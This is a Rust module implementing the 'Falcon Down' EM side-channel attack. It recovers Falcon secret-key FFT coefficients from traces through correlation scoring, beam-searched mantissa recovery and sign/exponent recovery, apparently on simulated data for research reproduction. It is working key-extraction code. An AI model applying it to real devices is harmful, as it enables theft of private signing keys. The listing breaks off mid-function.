//! The *Falcon Down* differential EM attack.
//!
//! Divide-and-conquer recovery of each `FFT(f)` coefficient (paper
//! §III.B–C): the sign, exponent and mantissa are recovered separately
//! and reassembled. The mantissa halves use the **extend-and-prune**
//! strategy: candidate guesses are scored by correlating against the
//! schoolbook *multiplication* partial products (extend — which by itself
//! produces shift-related false positives), then re-ranked against the
//! intermediate *additions*, whose alignment-sensitive carries eliminate
//! the false positives (prune).
//!
//! Only the prune reads the *other* mantissa half (the additions mix
//! both), so [`recover_coefficient_block`] extends each half **once** and
//! its alternating cross-half refinement re-runs only the prune.
//!
//! Each component is one function over the target's [`TargetBlock`]:
//! the caller fetches the block once from whatever [`ColumnSource`]
//! holds the traces (and handles that source's errors), and every
//! component scores the same borrowed columns. [`recover_coefficient`]
//! and [`recover_all_verified`] are the two whole-attack conveniences
//! over a resident [`Dataset`].
//!
//! The whole-coefficient attack extends each half incrementally: the
//! secret halves are grown LSB-first in `step_bits` windows under a
//! beam, exact full recovery with tractable compute (the low `m` bits of
//! a product depend only on the low `m` bits of each factor). The
//! paper's monolithic one-shot enumeration of a whole window (up to the
//! full 2^25/2^27 guess space) is kept as a per-half experiment:
//! [`recover_mantissa_half_monolithic`] recovers one half that way.

use crate::acquire::Dataset;
use crate::cpa::simd::GUESS_BLOCK;
use crate::cpa::{push_product_column, ColumnTile, PearsonSums, SampleSums};
use crate::exec;
use crate::model::{
    assemble_coefficient, hyp_add_hi, hyp_add_lo, product_mask, KnownOperand, SecretHalf,
};
use crate::obs;
use crate::source::{ColumnSource, TargetBlock};
use falcon_emsim::StepKind;
use std::sync::{Arc, OnceLock};

/// Metric handles for the attack hot paths, resolved once. The counters
/// take *bulk* adds at stage granularity (one add per beam level, not
/// per scored candidate) so the instrumentation cost stays invisible
/// next to the Pearson arithmetic it accounts for. (Fan-out accounting
/// lives with the shared executor: see the `exec.*` metrics.)
struct AttackMetrics {
    /// Full Pearson correlations evaluated (one per scored candidate).
    correlations: Arc<obs::Counter>,
    /// The part of `correlations` scored by mantissa extend stages.
    extend: Arc<obs::Counter>,
    /// The part of `correlations` scored by mantissa prune stages.
    prune: Arc<obs::Counter>,
    /// Extend work in hypotheses: guesses × traces × product columns.
    extend_points: Arc<obs::Counter>,
    /// Candidate-set size per extend/prune stage.
    candidates: Arc<obs::Histogram>,
}

impl AttackMetrics {
    /// Accounts one mantissa extend or prune stage (`phase` is
    /// [`extend`](Self::extend) or [`prune`](Self::prune)) of `n` scored
    /// candidates.
    fn stage(&self, phase: &obs::Counter, n: u64) {
        self.candidates.record(n as f64);
        self.correlations.add(n);
        phase.add(n);
    }
}

fn attack_metrics() -> &'static AttackMetrics {
    static M: OnceLock<AttackMetrics> = OnceLock::new();
    M.get_or_init(|| AttackMetrics {
        correlations: obs::counter("attack.correlations"),
        extend: obs::counter("attack.extend_correlations"),
        prune: obs::counter("attack.prune_correlations"),
        extend_points: obs::counter("attack.extend_points"),
        candidates: obs::metrics().histogram(
            "attack.candidate_set_size",
            &[16.0, 64.0, 256.0, 1024.0, 4096.0, 16384.0, 65536.0, 262144.0],
        ),
    })
}

/// Tuning knobs for the mantissa recovery.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct AttackConfig {
    /// Bits added per extend level.
    pub step_bits: u32,
    /// Candidates kept after each level.
    pub beam_width: usize,
}

impl Default for AttackConfig {
    fn default() -> Self {
        AttackConfig { step_bits: 8, beam_width: 64 }
    }
}

/// Outcome of recovering one component, with its distinguishing margin.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct ComponentResult {
    /// The winning guess value.
    pub value: u64,
    /// Correlation of the winner.
    pub corr: f64,
    /// Correlation of the runner-up (distinguishing margin diagnostics).
    pub runner_up: f64,
}

/// Full recovery result for one secret `FFT(f)` value.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct CoefficientResult {
    /// Reassembled 64-bit coefficient.
    pub bits: u64,
    /// Sign recovery details.
    pub sign: ComponentResult,
    /// Exponent recovery details.
    pub exponent: ComponentResult,
    /// Low mantissa half (25 bits).
    pub mant_lo: ComponentResult,
    /// High mantissa half (28 bits, implicit one included).
    pub mant_hi: ComponentResult,
}

/// The per-trace data needed to score mantissa hypotheses for one
/// target: known operands and the relevant sample columns, the latter
/// **borrowed** straight from the columnar dataset (zero copies on the
/// hot path — one `TargetColumns` is built per mantissa-half recovery
/// and then read by every scored candidate).
struct TargetColumns<'a> {
    /// `(known, sample)` pairs for each product column in use.
    cols: Vec<(Vec<u32>, &'a [f32])>,
    /// Full known operands per occurrence, for exact models.
    knowns: [Vec<KnownOperand>; 2],
    /// Prune-step sample column per occurrence.
    prune: [&'a [f32]; 2],
    /// Top-word accumulation column (`AddHiHi`) per occurrence, the
    /// cross-half prune column.
    extra_prune: [&'a [f32]; 2],
}

fn product_columns<'a>(block: &'a TargetBlock<'a>, half: SecretHalf) -> TargetColumns<'a> {
    let (step_with_lo, step_with_hi, prune_step) = match half {
        SecretHalf::Low => (StepKind::PpLoLo, StepKind::PpLoHi, StepKind::AddLoHi),
        SecretHalf::High => (StepKind::PpHiLo, StepKind::PpHiHi, StepKind::AddHiHi),
    };
    let knowns: [Vec<KnownOperand>; 2] =
        [0, 1].map(|occ| block.known_column(occ).iter().map(|&kb| KnownOperand::new(kb)).collect());
    let mut cols = Vec::with_capacity(4);
    for (occ, kcol) in knowns.iter().enumerate() {
        cols.push((kcol.iter().map(|k| k.lo).collect(), block.sample_column(occ, step_with_lo)));
        cols.push((kcol.iter().map(|k| k.hi).collect(), block.sample_column(occ, step_with_hi)));
    }
    TargetColumns {
        cols,
        knowns,
        prune: [0, 1].map(|occ| block.sample_column(occ, prune_step)),
        extra_prune: [0, 1].map(|occ| block.sample_column(occ, StepKind::AddHiHi)),
    }
}

/// Precomputed candidate-independent sample sums of the prune columns,
/// shared by every candidate in a prune re-rank.
struct PruneSums {
    prune: [SampleSums; 2],
    extra: [SampleSums; 2],
}

impl TargetColumns<'_> {
    /// Sample-side sums of every product column, truncated to
    /// `max_points`, for one extend level: the sample statistics are
    /// candidate-independent, so each beam level accumulates them once
    /// here instead of once per scored candidate.
    fn extend_sums(&self, max_points: usize) -> Vec<SampleSums> {
        self.cols
            .iter()
            .map(|(kn, samples)| SampleSums::new(&samples[..kn.len().min(max_points)]))
            .collect()
    }

    /// Sample-side sums of the prune and cross-half columns.
    fn prune_sums(&self) -> PruneSums {
        PruneSums {
            prune: [0, 1].map(|occ| SampleSums::new(self.prune[occ])),
            extra: [0, 1].map(|occ| SampleSums::new(self.extra_prune[occ])),
        }
    }

    /// Hypotheses one extend guess scores at `max_points`: traces summed
    /// over the product columns.
    fn extend_points(&self, max_points: usize) -> u64 {
        self.cols.iter().map(|(kn, _)| kn.len().min(max_points) as u64).sum()
    }

    /// Extend scores of a block of guesses: each guess's correlation of
    /// the partial-product model under `mask` across all product columns,
    /// together with its hypothesis variance (a candidate with
    /// near-constant hypotheses is statistically handicapped in the
    /// correlation ranking, not refuted). `sums` must come from
    /// [`extend_sums`](TargetColumns::extend_sums) at the same
    /// `max_points`.
    fn extend_block(
        &self,
        guesses: [u64; GUESS_BLOCK],
        mask: u64,
        max_points: usize,
        sums: &[SampleSums],
    ) -> [(f64, f64); GUESS_BLOCK] {
        // Pearson over the concatenation of all columns, capped at
        // `max_points` per column (intermediate beam levels only need
        // enough statistics to keep the truth alive; the final level and
        // the prune always use the full campaign).
        let mut accs = [PearsonSums::default(); GUESS_BLOCK];
        for ((kn, samples), ss) in self.cols.iter().zip(sums) {
            let take = kn.len().min(max_points);
            push_product_column(&mut accs, guesses, mask, &kn[..take], &samples[..take], ss);
        }
        accs.map(|a| (a.corr(), a.hyp_variance()))
    }

    /// Correlation of the exact addition (prune) model. For the low half
    /// with a recovered high half available, the top-word accumulation
    /// (`AddHiHi`) joins the score: it mixes both halves and remains
    /// informative even for the degenerate all-zero low half, whose own
    /// partial products are constants.
    fn prune_score(
        &self,
        scratch: &mut Vec<f64>,
        half: SecretHalf,
        cand: u64,
        other_half: Option<u64>,
        sums: &PruneSums,
    ) -> f64 {
        let mut acc = PearsonSums::default();
        for (occ, kn) in self.knowns.iter().enumerate() {
            match half {
                SecretHalf::Low => {
                    scratch.clear();
                    scratch.extend(kn.iter().map(|k| hyp_add_lo(cand, k)));
                    acc.push_column(scratch, self.prune[occ], &sums.prune[occ]);
                    if let Some(c_hi) = other_half {
                        scratch.clear();
                        scratch.extend(kn.iter().map(|k| hyp_add_hi(c_hi, cand, k)));
                        acc.push_column(scratch, self.extra_prune[occ], &sums.extra[occ]);
                    }
                }
                SecretHalf::High => {
                    scratch.clear();
                    scratch.extend(kn.iter().map(|k| hyp_add_hi(cand, other_half.unwrap_or(0), k)));
                    acc.push_column(scratch, self.prune[occ], &sums.prune[occ]);
                }
            }
        }
        acc.corr()
    }
}

fn top_two(scored: &[(u64, f64)]) -> ComponentResult {
    let mut best = (0u64, f64::NEG_INFINITY);
    let mut second = f64::NEG_INFINITY;
    for &(v, c) in scored {
        if c > best.1 {
            second = best.1;
            best = (v, c);
        } else if c > second {
            second = c;
        }
    }
    ComponentResult { value: best.0, corr: best.1, runner_up: second }
}

/// Bit width of a mantissa half (the high half includes the implicit
/// leading one).
fn half_width(half: SecretHalf) -> u32 {
    match half {
        SecretHalf::Low => 25,
        SecretHalf::High => 28,
    }
}

/// Feeds `cands` to `score` in blocks of [`GUESS_BLOCK`] guesses, in
/// order, with the number of real guesses in the block: a short last
/// block is padded with copies of its first guess, whose scores the
/// caller drops.
fn in_blocks(cands: impl Iterator<Item = u64>, mut score: impl FnMut([u64; GUESS_BLOCK], usize)) {
    let mut block = [0u64; GUESS_BLOCK];
    let mut n = 0;
    for c in cands {
        block[n] = c;
        n += 1;
        if n == GUESS_BLOCK {
            score(block, n);
            n = 0;
        }
    }
    if n > 0 {
        let first = block[0];
        block[n..].fill(first);
        score(block, n);
    }
}

/// The span a mantissa half's extend and prune stages nest under.
fn half_span(half: SecretHalf) -> obs::Span {
    obs::span(match half {
        SecretHalf::Low => "attack.mant_lo",
        SecretHalf::High => "attack.mant_hi",
    })
}

/// One mantissa half after its extend phase: the half's columns and its
/// final candidate set. Extend never reads the other half, so one
/// `Extended` serves every prune round of a coefficient's refinement.
struct Extended<'a> {
    half: SecretHalf,
    tc: TargetColumns<'a>,
    cands: Vec<u64>,
}

impl<'a> Extended<'a> {
    /// Runs the extend phase: `survivors` scores guesses against the
    /// half's product columns and returns the ones it keeps, whose shift
    /// families are then closed.
    fn new(
        block: &'a TargetBlock<'a>,
        half: SecretHalf,
        survivors: impl FnOnce(&TargetColumns<'a>) -> Vec<u64>,
    ) -> Self {
        let _half = half_span(half);
        let _span = obs::span("attack.extend");
        let tc = product_columns(block, half);
        let cands = shift_family_closure(&survivors(&tc), half_width(half), half);
        Extended { half, tc, cands }
    }

    /// Prune phase: re-ranks the candidate set against the intermediate
    /// additions, the only model that reads `other_half`.
    fn prune(&self, other_half: Option<u64>) -> ComponentResult {
        let _half = half_span(self.half);
        let _span = obs::span("attack.prune");
        let m = attack_metrics();
        m.stage(&m.prune, self.cands.len() as u64);
        let psums = self.tc.prune_sums();
        let scores = exec::map_with(&self.cands, Vec::new, |scratch, &c| {
            self.tc.prune_score(scratch, self.half, c, other_half, &psums)
        });
        let scored: Vec<(u64, f64)> = self.cands.iter().copied().zip(scores).collect();
        top_two(&scored)
    }
}

/// Recovers one mantissa half by incremental extend-and-prune.
///
/// Blocks from the resident [`Dataset`] and the out-of-core
/// [`StreamedDataset`](crate::stream::StreamedDataset) score
/// identically (the kernels consume whole columns in a fixed order).
pub fn recover_mantissa_half(
    block: &TargetBlock<'_>,
    half: SecretHalf,
    other_half: Option<u64>,
    cfg: &AttackConfig,
) -> ComponentResult {
    Extended::new(block, half, |tc| beam_survivors(tc, half, cfg)).prune(other_half)
}

/// The incremental extend: grows the half LSB-first in `step_bits`
/// windows, keeping the best `beam_width` candidates of each level plus
/// the low-variance ones the correlation ranking handicaps.
fn beam_survivors(tc: &TargetColumns<'_>, half: SecretHalf, cfg: &AttackConfig) -> Vec<u64> {
    let m = attack_metrics();
    let full_width = half_width(half);
    let mut beam: Vec<u64> = vec![0];
    let mut m_bits = 0u32;
    while m_bits < full_width {
        let next = (m_bits + cfg.step_bits).min(full_width);
        let ext = next - m_bits;
        let mut cands: Vec<u64> = Vec::with_capacity(beam.len() << ext);
        for &b in &beam {
            for e in 0u64..(1 << ext) {
                cands.push(b | (e << m_bits));
            }
        }
        if next == full_width && half == SecretHalf::High {
            // The implicit leading one pins bit 27.
            cands.retain(|c| c >> 27 == 1);
        }
        // Intermediate levels subsample the campaign; the final level is
        // scored on everything.
        let max_points = if next == full_width { usize::MAX } else { 4000 };
        let scores = {
            let _score = obs::span("attack.extend_score");
            m.stage(&m.extend, cands.len() as u64);
            m.extend_points.add(cands.len() as u64 * tc.extend_points(max_points));
            // Sample-side sums once per level, not once per candidate.
            let col_sums = tc.extend_sums(max_points);
            let mask = product_mask(next, full_width);
            let (blocks, tail) = cands.as_chunks::<GUESS_BLOCK>();
            let mut scores =
                exec::map(blocks, |&g| tc.extend_block(g, mask, max_points, &col_sums))
                    .into_flattened();
            in_blocks(tail.iter().copied(), |g, n| {
                scores.extend_from_slice(&tc.extend_block(g, mask, max_points, &col_sums)[..n]);
            });
            scores
        };
        let _rank = obs::span("attack.extend_rank");
        beam = rank_level(&cands, &scores, cfg.beam_width.max(1));
        m_bits = next;
    }
    beam
}

/// One scored extend candidate of a beam level: its position in the
/// level's candidate list, its correlation and its hypothesis variance.
type Scored = (usize, f64, f64);

/// The beam's ranking order: correlation descending, then candidate
/// position ascending. `PearsonSums::corr` of finite samples is finite,
/// so this is a total order (`+0.0` and `-0.0` tie, as they compare
/// equal).
fn by_corr(a: &Scored, b: &Scored) -> core::cmp::Ordering {
    b.1.partial_cmp(&a.1).unwrap_or(core::cmp::Ordering::Equal).then(a.0.cmp(&b.0))
}

/// The protection order: hypothesis variance ascending (most
/// handicapped first), then the ranking order.
fn by_hvar(a: &Scored, b: &Scored) -> core::cmp::Ordering {
    a.2.total_cmp(&b.2).then_with(|| by_corr(a, b))
}

/// Sorts the `keep` first elements of `v` under `cmp` into its front
/// and returns the others, unordered: a selection, then a sort of
/// `keep` elements, which leaves the front a full sort by the total
/// order `cmp` would.
fn split_top(
    v: &mut Vec<Scored>,
    keep: usize,
    cmp: fn(&Scored, &Scored) -> core::cmp::Ordering,
) -> Vec<Scored> {
    let rest = if v.len() > keep {
        v.select_nth_unstable_by(keep - 1, cmp);
        v.split_off(keep)
    } else {
        Vec::new()
    };
    v.sort_unstable_by(cmp);
    rest
}

/// Ranks one beam level (`scores[i]` is `(corr, hyp_variance)` of
/// `cands[i]`): the top `keep` by correlation, then up to `keep` of the
/// others whose hypothesis variance is below half the level's median,
/// most handicapped first. The same beam as two full stable sorts, by
/// selection.
///
/// Correlation handicaps candidates with low hypothesis variance
/// (prefixes with trailing zero bits modulate few product bits; an
/// all-zero prefix is entirely constant and unfalsifiable). Keep them
/// alive alongside the correlation ranking rather than let a
/// shift-family impostor evict the truth.
fn rank_level(cands: &[u64], scores: &[(f64, f64)], keep: usize) -> Vec<u64> {
    let mut hvars: Vec<f64> = scores.iter().map(|&(_, v)| v).collect();
    // The element a full sort would put at `mid`: a total order has one
    // such value, so selecting it is exact.
    let mid = hvars.len() / 2;
    let median_hvar = *hvars.select_nth_unstable_by(mid, f64::total_cmp).1;
    let handicapped = |s: &Scored| s.2 < 0.5 * median_hvar;
    // One pass keeps the running top `keep` in a buffer of at most
    // 2·keep: a full buffer is cut back to its top `keep`, whose last
    // element becomes the floor a later candidate must beat to enter.
    // Whatever leaves the top `keep` may still be protected.
    let mut top: Vec<Scored> = Vec::with_capacity(2 * keep);
    let mut rest: Vec<Scored> = Vec::new();
    let mut floor: Option<Scored> = None;
    for (i, &(r, v)) in scores.iter().enumerate() {
        let s = (i, r, v);
        if floor.is_some_and(|f| by_corr(&s, &f).is_gt()) {
            if handicapped(&s) {
                rest.push(s);
            }
        } else {
            top.push(s);
            if top.len() == 2 * keep {
                rest.extend(split_top(&mut top, keep, by_corr).into_iter().filter(handicapped));
                floor = top.last().copied();
            }
        }
    }
    rest.extend(split_top(&mut top, keep, by_corr).into_iter().filter(handicapped));
    // Most-handicapped first: a zero-variance candidate (the all-zero
    // prefix) is entirely unfalsifiable and must always survive.
    split_top(&mut rest, keep, by_hvar);
    top.iter().chain(&rest).map(|&(i, _, _)| cands[i]).collect()
}

/// The multiplication cannot separate shift families at all: for even
/// `d`, `HW(d·B) = HW((d/2)·B)` exactly, so the extend phase pins down
/// an equivalence class rather than a value (the paper's false
/// positives). Close the class explicitly — add every in-range shift of
/// each survivor — and let the addition decide.
fn shift_family_closure(beam: &[u64], full_width: u32, half: SecretHalf) -> Vec<u64> {
    let mask = (1u64 << full_width) - 1;
    let mut final_set = beam.to_vec();
    for &c in beam {
        for k in 1..full_width {
            final_set.push(c >> k);
            let up = (c << k) & mask;
            if up >> k == c {
                final_set.push(up);
            }
        }
    }
    if half == SecretHalf::High {
        final_set.retain(|c| c >> 27 == 1);
        if final_set.is_empty() {
            final_set = beam.to_vec();
        }
    }
    final_set.sort_unstable();
    final_set.dedup();
    final_set
}

/// The paper's **monolithic** recovery of one mantissa half: a one-shot
/// enumeration of all `2^width` guesses of the half's low window (`rest`
/// supplies the high bits when a narrower window is attacked; `rest = 0`
/// with the full 25/28-bit width is the paper's 2^25/2^27 headline
/// mode), extend-scored in cache-sized blocks, then prune re-ranked.
///
/// Blocking serves the memory hierarchy: within one block the borrowed
/// sample columns stay cache-hot while thousands of hypothesis columns
/// stream past them, and the candidate-independent Σt/Σt² lanes are
/// accumulated once per call rather than once per guess. Blocks are
/// scored through the deterministic executor and merged by a total
/// order (`corr` desc, guess asc), so the result is bit-reproducible
/// across thread counts and SIMD kernels like every other attack path.
///
/// `keep` bounds the survivors handed to the prune step (their shift
/// families are closed first, exactly like the incremental path).
pub fn recover_mantissa_half_monolithic(
    block: &TargetBlock<'_>,
    half: SecretHalf,
    other_half: Option<u64>,
    width: u32,
    rest: u64,
    keep: usize,
) -> ComponentResult {
    Extended::new(block, half, |tc| window_survivors(tc, half, width, rest, keep)).prune(other_half)
}

/// The monolithic extend: scores every guess of the window and keeps
/// the top `keep`, plus the unfalsifiable all-zero window.
fn window_survivors(
    tc: &TargetColumns<'_>,
    half: SecretHalf,
    width: u32,
    rest: u64,
    keep: usize,
) -> Vec<u64> {
    let full_width = half_width(half);
    let keep = keep.max(1);
    const BLOCK: u64 = 4096;
    let total = 1u64 << width;
    let blocks: Vec<u64> = (0..total.div_ceil(BLOCK)).collect();
    // The implicit leading one pins bit 27 of a whole high half.
    let pinned = half == SecretHalf::High && width == full_width;
    // Each block's running top-`keep` is kept inside the score span (it
    // bounds the block's memory); the rank span covers the merge.
    let block_tops = {
        let _score = obs::span("attack.extend_score");
        let m = attack_metrics();
        m.stage(&m.extend, total);
        m.extend_points.add(total * tc.extend_points(usize::MAX));
        // Monolithic scoring always uses the whole campaign: one shot is
        // the point.
        let col_sums = tc.extend_sums(usize::MAX);
        let mask = product_mask(full_width, full_width);
        exec::map(&blocks, |&blk| {
            let (start, end) = (blk * BLOCK, (blk * BLOCK + BLOCK).min(total));
            let cands = (start..end).map(|g| (rest << width) | g);
            let mut top: Vec<(u64, f64)> = Vec::with_capacity(2 * keep + 1);
            in_blocks(cands.filter(|&c| !pinned || c >> 27 == 1), |g, n| {
                let scores = tc.extend_block(g, mask, usize::MAX, &col_sums);
                for (&cand, &(r, _)) in g.iter().zip(&scores).take(n) {
                    top.push((cand, r));
                    if top.len() == 2 * keep {
                        // Keep the block's running top-`keep` under a
                        // total order; anything truncated here can never
                        // re-enter the global top-`keep`.
                        top.sort_by(|a, b| b.1.total_cmp(&a.1).then(a.0.cmp(&b.0)));
                        top.truncate(keep);
                    }
                }
            });
            top.sort_by(|a, b| b.1.total_cmp(&a.1).then(a.0.cmp(&b.0)));
            top.truncate(keep);
            top
        })
    };
    let _rank = obs::span("attack.extend_rank");
    let mut merged: Vec<(u64, f64)> = block_tops.into_iter().flatten().collect();
    merged.sort_by(|a, b| b.1.total_cmp(&a.1).then(a.0.cmp(&b.0)));
    merged.truncate(keep);
    let mut survivors: Vec<u64> = merged.into_iter().map(|(c, _)| c).collect();
    // The all-zero window predicts constant products — unfalsifiable by
    // the extend score (correlation 0), decidable only by the prune
    // addition. Keep it alive explicitly, like the incremental beam's
    // low-variance protection does.
    let zero_cand = rest << width;
    let zero_plausible = half != SecretHalf::High || width != full_width;
    if zero_plausible && !survivors.contains(&zero_cand) {
        survivors.push(zero_cand);
    }
    survivors
}

/// Jointly recovers the sign bit and the 11-bit biased exponent field
/// given fully recovered mantissa halves.
///
/// A pure CPA on the exponent-addition word alone can alias: two
/// exponent guesses whose predicted words differ only in bits above the
/// known operand's (narrow) exponent spread produce hypothesis series
/// that differ by a constant, to which Pearson correlation is blind.
/// Scoring the candidates against the operand-fetch word as well — where
/// every secret bit is XOR-combined with *varying* known bits — breaks
/// the tie exactly, so the joint recovery scores each `(sign, exponent)`
/// pair with the exact micro-op models of the `OperandLoad`,
/// `ExponentAdd` and `SignXor` steps together.
///
/// The `ExponentAdd` model reads only the exponent and the `SignXor`
/// model only the sign, so their column tiles are computed once per
/// exponent (for both signs) and once per sign; only the `OperandLoad`
/// column is built per candidate. Each candidate still folds its three
/// columns load → exponent → sign, so its correlation is bit-identical
/// to scoring the three columns afresh.
pub fn recover_sign_exponent(
    block: &TargetBlock<'_>,
    c_hi: u64,
    d_lo: u64,
) -> (ComponentResult, ComponentResult) {
    let _span = obs::span("attack.sign_exp");
    attack_metrics().correlations.add(2 * 2046);
    let cols = SignExpColumns::new(block, c_hi, d_lo);
    let [s_load, s_exp, s_sign] = &cols.samples;
    let [load_sums, exp_sums, sign_sums] = &cols.sums;
    let mut scratch = Vec::new();
    let sign_tiles = [0, 1].map(|sign| {
        cols.sign_hyps(&mut scratch, sign);
        ColumnTile::new(&scratch, s_sign)
    });
    let exponents: Vec<u32> = (1..2047).collect();
    let scores = exec::map_with(&exponents, Vec::new, |scratch: &mut Vec<f64>, &ef| {
        cols.exp_hyps(scratch, ef);
        let exp_tile = ColumnTile::new(scratch, s_exp);
        [0, 1].map(|sign| {
            cols.load_hyps(scratch, sign, ef);
            let mut sums = PearsonSums::default();
            sums.push_column(scratch, s_load, load_sums);
            sums.push_tile(&exp_tile, s_exp, exp_sums);
            sums.push_tile(&sign_tiles[sign as usize], s_sign, sign_sums);
            sums.corr()
        })
    });
    let scored = (0..2).flat_map(|sign| {
        exponents.iter().zip(&scores).map(move |(&ef, by_sign)| (sign, ef, by_sign[sign as usize]))
    });
    sign_exponent_winner(scored, c_hi, d_lo)
}

/// The per-(trace, occurrence) inputs of the sign/exponent models that
/// do not depend on the `(sign, exponent)` guess — struct-of-arrays, so
/// the scoring runs column tiles over contiguous hypothesis and sample
/// series — with the `OperandLoad`, `ExponentAdd` and `SignXor` sample
/// columns and their [`SampleSums`], shared by every candidate.
struct SignExpColumns {
    load_low_hw: Vec<u32>,
    rot_top: Vec<u32>,
    exp_base: Vec<i32>,
    k_sign: Vec<u32>,
    samples: [Vec<f32>; 3],
    sums: [SampleSums; 3],
}

impl SignExpColumns {
    fn new(block: &TargetBlock<'_>, c_hi: u64, d_lo: u64) -> Self {
        let mantissa = ((c_hi & 0x7FF_FFFF) << 25) | d_lo;
        let pre_len = 2 * block.traces();
        let mut load_low_hw: Vec<u32> = Vec::with_capacity(pre_len);
        let mut rot_top: Vec<u32> = Vec::with_capacity(pre_len);
        let mut exp_base: Vec<i32> = Vec::with_capacity(pre_len);
        let mut k_sign: Vec<u32> = Vec::with_capacity(pre_len);
        let mut samples: [Vec<f32>; 3] = Default::default();
        let steps = [StepKind::OperandLoad, StepKind::ExponentAdd, StepKind::SignXor];
        for occ in 0..2 {
            for (col, step) in samples.iter_mut().zip(steps) {
                col.extend_from_slice(block.sample_column(occ, step));
            }
            for &kb in block.known_column(occ) {
                let k = KnownOperand::new(kb);
                let rot = kb.rotate_left(32);
                let mant_mask = (1u64 << 52) - 1;
                // Carry from the exactly-known mantissa pipeline.
                let words = crate::model::step_words(assemble_coefficient(0, 1023, c_hi, d_lo), &k);
                let zu = words[StepKind::StickyFold as usize];
                let carry = (zu >> 55) as i32;
                load_low_hw.push(((mantissa ^ rot) & mant_mask).count_ones());
                rot_top.push((rot >> 52) as u32);
                exp_base.push(k.exp as i32 - 2100 + carry);
                k_sign.push(k.sign);
            }
        }
        let sums = samples.each_ref().map(|col| SampleSums::new(col));
        SignExpColumns { load_low_hw, rot_top, exp_base, k_sign, samples, sums }
    }

    /// The `OperandLoad` hypotheses of `(sign, ef)` into `out`.
    fn load_hyps(&self, out: &mut Vec<f64>, sign: u32, ef: u32) {
        let top = (sign << 11) | ef;
        out.clear();
        out.extend(
            self.load_low_hw
                .iter()
                .zip(&self.rot_top)
                .map(|(&lhw, &rt)| (lhw + (top ^ rt).count_ones()) as f64),
        );
    }

    /// The `ExponentAdd` hypotheses of exponent field `ef` into `out`.
    fn exp_hyps(&self, out: &mut Vec<f64>, ef: u32) {
        out.clear();
        out.extend(self.exp_base.iter().map(|&eb| ((eb + ef as i32) as u32).count_ones() as f64));
    }

    /// The `SignXor` hypotheses of `sign` into `out`.
    fn sign_hyps(&self, out: &mut Vec<f64>, sign: u32) {
        out.clear();
        out.extend(self.k_sign.iter().map(|&ks| (sign ^ ks) as f64));
    }
}

/// The best `(sign, exponent, corr)` of `scored`, which lists the
/// candidates sign-major (a tie goes to the first listed), as the sign
/// and exponent results.
fn sign_exponent_winner(
    scored: impl Iterator<Item = (u32, u32, f64)>,
    c_hi: u64,
    d_lo: u64,
) -> (ComponentResult, ComponentResult) {
    let scored: Vec<(u64, f64)> =
        scored.map(|(sign, ef, c)| (assemble_coefficient(sign, ef, c_hi, d_lo), c)).collect();
    let best = top_two(&scored);
    let bits = best.value;
    let sign = ComponentResult { value: bits >> 63, ..best };
    let exponent = ComponentResult { value: (bits >> 52) & 0x7FF, ..best };
    (sign, exponent)
}

/// Attacker-side confidence in an assembled coefficient: the Pearson
/// correlation of the exact all-steps model against every recorded
/// sample of the coefficient's two multiplications. Correct recoveries
/// score near the channel's SNR ceiling; a wrong mantissa or exponent
/// drags the score down measurably.
pub fn coefficient_confidence(block: &TargetBlock<'_>, bits: u64) -> f64 {
    attack_metrics().correlations.incr();
    let traces = block.traces();
    let mut sums = PearsonSums::default();
    // One flat hypothesis scratch keyed [step][trace]: `step_words` runs
    // once per trace, its Hamming weights are scattered into per-step
    // rows, and each row correlates as a contiguous tile against the
    // borrowed sample column. No per-invocation `Vec<Vec<_>>`.
    let mut hw = vec![0f64; StepKind::COUNT * traces];
    for occ in 0..2 {
        for (i, &kb) in block.known_column(occ).iter().enumerate() {
            let words = crate::model::step_words(bits, &KnownOperand::new(kb));
            for (s, &w) in words.iter().enumerate() {
                hw[s * traces + i] = w.count_ones() as f64;
            }
        }
        for (s, &step) in StepKind::ALL.iter().enumerate() {
            let samples = block.sample_column(occ, step);
            let h = &hw[s * traces..(s + 1) * traces];
            sums.push_column(h, samples, &SampleSums::new(samples));
        }
    }
    sums.corr()
}

/// Recovers one full `FFT(f)` coefficient of a resident dataset by
/// divide-and-conquer; see [`recover_coefficient_block`].
///
/// # Panics
///
/// Panics when `ds` does not hold `target`, with the
/// [`Error::TargetNotInDataset`](crate::Error::TargetNotInDataset)
/// message.
#[track_caller]
pub fn recover_coefficient(ds: &Dataset, target: usize, cfg: &AttackConfig) -> CoefficientResult {
    match ds.target_block(target) {
        Ok(block) => recover_coefficient_block(&block, cfg),
        Err(e) => panic!("{e}"),
    }
}

/// Recovers one full `FFT(f)` coefficient by divide-and-conquer.
///
/// Every component scores the same fetched block, so a streamed source
/// pays one pass of I/O per coefficient regardless of how many
/// refinement rounds run.
pub fn recover_coefficient_block(block: &TargetBlock<'_>, cfg: &AttackConfig) -> CoefficientResult {
    let _span = obs::span("attack.coefficient");
    // Alternating refinement: each half's *extend* targets are
    // independent of the other half, so each half is extended once. The
    // *prune* additions mix the halves (`zu = C·A + carries(D)`), so the
    // halves are re-pruned with each other's latest estimate until the
    // pair is stable. This also resolves the degenerate all-zero low
    // half, which is invisible to its own products and only betrayed by
    // the cross-half accumulation.
    let extend = |half| Extended::new(block, half, |tc| beam_survivors(tc, half, cfg));
    let lo_set = extend(SecretHalf::Low);
    let mut mant_lo = lo_set.prune(None);
    let hi_set = extend(SecretHalf::High);
    let mut mant_hi = hi_set.prune(Some(mant_lo.value));
    for _ in 0..2 {
        let lo = lo_set.prune(Some(mant_hi.value));
        let lo_stable = lo.value == mant_lo.value;
        mant_lo = lo;
        if lo_stable {
            // Fixed point: the high half was pruned against this very low
            // half, so re-pruning it would reproduce itself.
            break;
        }
        let hi = hi_set.prune(Some(mant_lo.value));
        let hi_stable = hi.value == mant_hi.value;
        mant_hi = hi;
        if hi_stable {
            break;
        }
    }
    let (sign, exponent) = recover_sign_exponent(block, mant_hi.value, mant_lo.value);
    let bits = assemble_coefficient(
        sign.value as u32,
        exponent.value as u32,
        mant_hi.value,
        mant_lo.value,
    );
    CoefficientResult { bits, sign, exponent, mant_lo, mant_hi }
}

/// Recovers every targeted coefficient with a confidence-guided retry:
/// coefficients whose exact-model confidence falls visibly below the
/// cohort's median — the attacker-side signature of a wrong beam
/// decision — are re-attacked with a wider beam and finer extend steps.
///
/// Returns the results together with each coefficient's final
/// confidence, in target order (empty for a dataset without targets).
pub fn recover_all_verified(ds: &Dataset, cfg: &AttackConfig) -> Vec<(CoefficientResult, f64)> {
    if ds.targets().is_empty() {
